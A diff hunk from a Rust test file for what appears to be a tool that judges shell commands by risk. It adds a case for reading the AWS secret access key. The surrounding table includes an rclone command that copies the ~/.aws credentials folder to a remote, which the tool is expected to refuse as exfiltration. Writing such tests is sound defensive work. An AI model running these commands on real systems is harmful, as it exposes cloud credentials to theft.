@@ -9439,6 +9439,12 @@ fn expects_spawn_and_cloud_uploads_are_judged() {
             ),
             ("rclone copy ~/.aws remote:x", refused("secret.exfiltrate")),
             ("aws s3 ls", yellow("default.unknown")),
+            // Its own settings, read without a request: not sent out (here no `~/.aws`
+            // holds a credential to read).
+            (
+                "aws configure get aws_secret_access_key",
+                yellow("default.unknown"),
+            ),
         ],
     );
 }
